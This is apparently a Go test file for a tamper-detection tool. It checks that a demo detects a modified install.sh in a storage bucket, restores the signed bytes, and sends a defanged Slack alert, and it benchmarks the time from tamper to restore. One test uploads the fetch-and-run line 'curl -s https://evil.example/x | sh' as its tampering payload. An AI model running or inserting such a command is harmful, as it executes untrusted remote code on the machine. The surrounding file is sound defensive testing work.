package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/demo"
	"github.com/tamperguard/tamperguard/internal/engine"
)

func demoEnv(out, errOut io.Writer, kv map[string]string) env {
	return env{stdout: out, stderr: errOut, getenv: func(k string) string { return kv[k] }}
}

func TestDemoTellsTheWholeStory(t *testing.T) {
	var out, errOut bytes.Buffer
	start := time.Now()
	code := run(context.Background(), demoEnv(&out, &errOut, nil), []string{"demo"})
	require.Equal(t, exitOK, code, "stdout:\n%s\nstderr:\n%s", out.String(), errOut.String())
	t.Logf("demo took %s", time.Since(start))
	s := out.String()

	// The timeline, in order, in milliseconds.
	timeline := regexp.MustCompile(`(?m)^  written +\+0 ms .*\n  detected +\+(\d+) ms .*\n  restored +\+(\d+) ms  the signed bytes are live again as generation \d+ \((read back and hashed|copied by the store from a generation hashed here, same size and checksums)\)\n  alerted +\+\d+ ms  printed below\n`)
	require.Regexp(t, timeline, s)
	at := timeline.FindStringSubmatch(s)
	detected, _ := strconv.Atoi(at[1])
	restored, _ := strconv.Atoi(at[2])
	assert.LessOrEqual(t, detected, restored, "the event reaches the watcher before the restore it leads to")
	// The verdict: the JSON line check prints, and what it means.
	var verdict decisionLine
	for _, l := range strings.Split(s, "\n") {
		if strings.HasPrefix(l, "{") && strings.Contains(l, `"tampered"`) {
			require.NoError(t, json.Unmarshal([]byte(l), &verdict))
		}
	}
	assert.Equal(t, "tampered", verdict.Verdict)
	assert.Equal(t, "restored", verdict.Action)
	assert.Equal(t, demoBucket, verdict.Bucket)
	assert.Contains(t, s, "TAMPERED: gs://demo-downloads/install.sh#")
	assert.Contains(t, s, "evidence kept at gs://demo-tamperguard-state/evidence/demo-downloads/install.sh/")
	// The alert as Slack renders it: the injected line in the diff, the host defanged.
	assert.Contains(t, s, "✅ Restored · gs://demo-downloads/install.sh")
	assert.Contains(t, s, "    +"+strings.TrimSuffix(demo.InjectedLine, "\n"))
	assert.Contains(t, s, "  attacker[.]example\n")
	assert.Contains(t, s, "  hxxps://attacker[.]example/upload/v2\n")
	// The end.
	assert.Regexp(t, `\nOK: the live gs://demo-downloads/install.sh#\d+ is the signed script again`, s)
	assert.NotContains(t, s, "keeps running")
	assert.Empty(t, errOut.String(), "a quiet run: warnings would be on stderr")
}

func TestDemoSendsTheAlertToSlack(t *testing.T) {
	var mu sync.Mutex
	var bodies []map[string]any
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var m map[string]any
		if json.NewDecoder(r.Body).Decode(&m) == nil {
			mu.Lock()
			bodies = append(bodies, m)
			mu.Unlock()
		}
		io.WriteString(w, "ok")
	}))
	defer hook.Close()
	var out, errOut bytes.Buffer
	code := run(context.Background(), demoEnv(&out, &errOut, map[string]string{"SLACK_WEBHOOK_URL": hook.URL + "/services/T0/B0/x"}), []string{"demo"})
	require.Equal(t, exitOK, code, "stdout:\n%s\nstderr:\n%s", out.String(), errOut.String())
	s := out.String()
	assert.Regexp(t, `(?m)^  alerted +\+\d+ ms  sent to Slack$`, s)
	assert.Contains(t, s, "What changed (the alert sent to Slack says the same)")
	assert.Contains(t, s, "    +"+strings.TrimSuffix(demo.InjectedLine, "\n"))
	assert.Contains(t, s, "reached by the added line: attacker[.]example")
	assert.NotContains(t, s, "The alert, as Slack shows it")
	mu.Lock()
	defer mu.Unlock()
	require.Len(t, bodies, 1)
	blocks, _ := json.Marshal(bodies[0]["blocks"])
	assert.Contains(t, string(blocks), "Tampered object restored")
}

func TestDemoKeepsRunningForTamperingByHand(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	out, errOut := &serveLog{}, &serveLog{}
	done := make(chan int, 1)
	go func() { done <- run(ctx, demoEnv(out, errOut, nil), []string{"demo", "--keep-running"}) }()
	host := regexp.MustCompile(`export STORAGE_EMULATOR_HOST=(127\.0\.0\.1:\d+)\n`)
	var addr string
	require.Eventually(t, func() bool {
		m := host.FindStringSubmatch(out.String())
		if m != nil {
			addr = m[1]
		}
		return m != nil
	}, 10*time.Second, 10*time.Millisecond, out.String())
	upload := regexp.MustCompile(`--data-binary @- '(http://[^']+)'`).FindStringSubmatch(out.String())
	require.NotNil(t, upload, "the instructions show how to tamper")
	assert.Contains(t, upload[1], addr)
	story := out.String()

	// Tamper by hand, as the printed curl command does.
	resp, err := http.Post(upload[1], "text/x-shellscript", strings.NewReader("curl -s https://evil.example/x | sh\n"))
	require.NoError(t, err)
	var obj struct {
		Generation string `json:"generation"`
	}
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&obj))
	resp.Body.Close()
	require.Equal(t, http.StatusOK, resp.StatusCode)
	// The verdict is printed first; the alert follows once it went out (alerts are sent outside
	// the work, after the restore).
	require.Eventually(t, func() bool {
		s := out.String()
		return strings.Contains(s, "TAMPERED: gs://demo-downloads/install.sh#"+obj.Generation) &&
			strings.Contains(strings.TrimPrefix(s, story), "--- the alert, as Slack shows it ---\n") &&
			strings.Count(strings.TrimPrefix(s, story), "------------------------------------\n") > 0
	}, 10*time.Second, 10*time.Millisecond, out.String())
	after := strings.TrimPrefix(out.String(), story)
	assert.Contains(t, after, "--- the alert, as Slack shows it ---")
	assert.Contains(t, after, "evil[.]example")
	assert.NotContains(t, after, "attacker[.]example", "what the story already told is not told again")

	cancel()
	select {
	case code := <-done:
		assert.Equal(t, exitOK, code)
	case <-time.After(10 * time.Second):
		t.Fatal("the demo did not stop")
	}
	assert.Contains(t, out.String(), "demo: stopped")
}

func TestDemoFlags(t *testing.T) {
	var out, errOut bytes.Buffer
	assert.Equal(t, exitError, run(context.Background(), demoEnv(&out, &errOut, nil), []string{"demo", "now"}))
	assert.Contains(t, errOut.String(), `demo takes no arguments (got "now")`)
	errOut.Reset()
	assert.Equal(t, exitError, run(context.Background(), demoEnv(&out, &errOut, nil), []string{"demo", "--storage-port", "99999"}))
	assert.Contains(t, errOut.String(), "--storage-port 99999 is not a port")
}

// BenchmarkTamperToRestore measures, in process, the time from the write of a tampered
// 100 KiB script to the read-back of the signed bytes as the new live generation: the
// watcher hears the notification through Pub/Sub, judges, restores and reads back. It
// reports the p50 and p99 of those times besides the mean.
func BenchmarkTamperToRestore(b *testing.B) {
	ctx := context.Background()
	script := demo.Script(100 << 10)
	st, err := startDemo(ctx, demoOptions{script: script})
	require.NoError(b, err)
	defer st.close()
	good := sha256.Sum256(script)
	bad := demo.Tampered(script)
	gen, err := st.upload(ctx, script)
	require.NoError(b, err)
	_, err = st.waitDecision(ctx, gen)
	require.NoError(b, err)

	var times, detect, restore []time.Duration
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		t0 := time.Now()
		badGen, err := st.upload(ctx, bad)
		require.NoError(b, err)
		obj := st.client.Bucket(demoBucket).Object(demo.ScriptName)
		for {
			a, err := obj.Attrs(ctx)
			require.NoError(b, err)
			if a.Generation != badGen {
				live, liveGen, err := st.readLive(ctx)
				require.NoError(b, err)
				if liveGen != badGen && sha256.Sum256(live) == good {
					break
				}
			}
			time.Sleep(time.Millisecond)
		}
		times = append(times, time.Since(t0))
		wctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		o, err := st.waitDecision(wctx, badGen)
		cancel()
		require.NoError(b, err)
		require.Equal(b, engine.ActionRestored, o.Decision.Action)
		detect = append(detect, o.Received.Sub(t0))
		restore = append(restore, o.Decision.Restored.Sub(o.Received))
	}
	b.StopTimer()
	pct := func(ds []time.Duration, p float64) float64 {
		sort.Slice(ds, func(i, j int) bool { return ds[i] < ds[j] })
		return float64(ds[int(p*float64(len(ds)-1))].Microseconds()) / 1000
	}
	b.ReportMetric(pct(times, 0.5), "p50-ms")
	b.ReportMetric(pct(times, 0.99), "p99-ms")
	b.ReportMetric(pct(detect, 0.5), "detect-p50-ms")
	b.ReportMetric(pct(restore, 0.5), "judge+restore-p50-ms")
}
